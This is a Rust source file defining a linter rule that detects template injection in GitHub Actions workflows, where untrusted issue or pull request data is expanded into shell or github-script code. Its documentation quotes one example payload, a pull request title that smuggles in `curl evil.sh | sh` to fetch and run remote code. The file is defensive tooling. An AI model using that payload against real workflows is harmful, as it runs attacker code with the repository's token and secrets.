use plimsoll_actions::schema::is_untrusted_context;
use plimsoll_syntax::expr;
use plimsoll_syntax::yaml::{Locator, Node};

use super::common::action_slug;
use crate::declare_rule;
use crate::finding::{RuleMeta, Sink};
use crate::rule::{Context, Rule, StepScope};

declare_rule! {
    /// ## What it does
    /// Flags `${{ }}` expressions that expand attacker-controlled event data (issue and pull
    /// request titles and bodies, comments, branch names, commit messages, `github.head_ref`)
    /// directly into a `run:` script or an `actions/github-script` script.
    ///
    /// ## Why is this bad?
    /// The expression is pasted into the script before the shell sees it. A pull request titled
    /// `"; curl evil.sh | sh; #` runs that command in your workflow, with its token and secrets.
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "Title: ${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Use instead
    /// Pass the value through an environment variable, which the shell treats as data:
    /// ```yaml
    /// - run: echo "Title: $TITLE"
    ///   env:
    ///     TITLE: ${{ github.event.pull_request.title }}
    /// ```
    pub struct TemplateInjection {
        id: "GHA012",
        name: "template-injection",
        severity: Error,
        domain: GithubActions,
        summary: "Untrusted event data is expanded into a script",
        help: "pass the value through `env:` and use the variable (`\"$TITLE\"`) in the script",
    }
}

fn check_script(cx: &Context<'_>, node: &Node, what: &str, out: &mut Sink) {
    let Some(text) = node.as_str() else {
        return;
    };
    // Built at the first finding: each of thousands of findings in one script would otherwise
    // scan the whole script.
    let mut locator: Option<Locator> = None;
    for occurrence in expr::find(text) {
        let inner = &text[occurrence.inner.start..occurrence.inner.end];
        let Ok(analysis) = expr::analyze(inner) else {
            continue;
        };
        for path in analysis.paths {
            if is_untrusted_context(&path.path) {
                let start = occurrence.inner.start + path.span.start;
                let span = locator
                    .get_or_insert_with(|| Locator::new(node, cx.text()))
                    .locate(
                        node,
                        cx.text(),
                        start..occurrence.inner.start + path.span.end,
                    );
                out.report(
                    &TemplateInjection::META,
                    span,
                    format!("`{}` is controlled by whoever opens the issue or pull request, and is pasted into {what}", path.path),
                );
            }
        }
    }
}

impl Rule for TemplateInjection {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check_step(&self, cx: &Context<'_>, scope: &StepScope<'_>, out: &mut Sink) {
        if let Some(run) = scope.step.run() {
            check_script(cx, run, "a shell script", out);
        }
        let is_github_script = scope
            .step
            .uses_node()
            .and_then(Node::as_str)
            .is_some_and(|u| action_slug(u) == "actions/github-script");
        if is_github_script {
            if let Some(script) = scope.step.with("script") {
                check_script(cx, script, "a JavaScript script", out);
            }
        }
    }
}
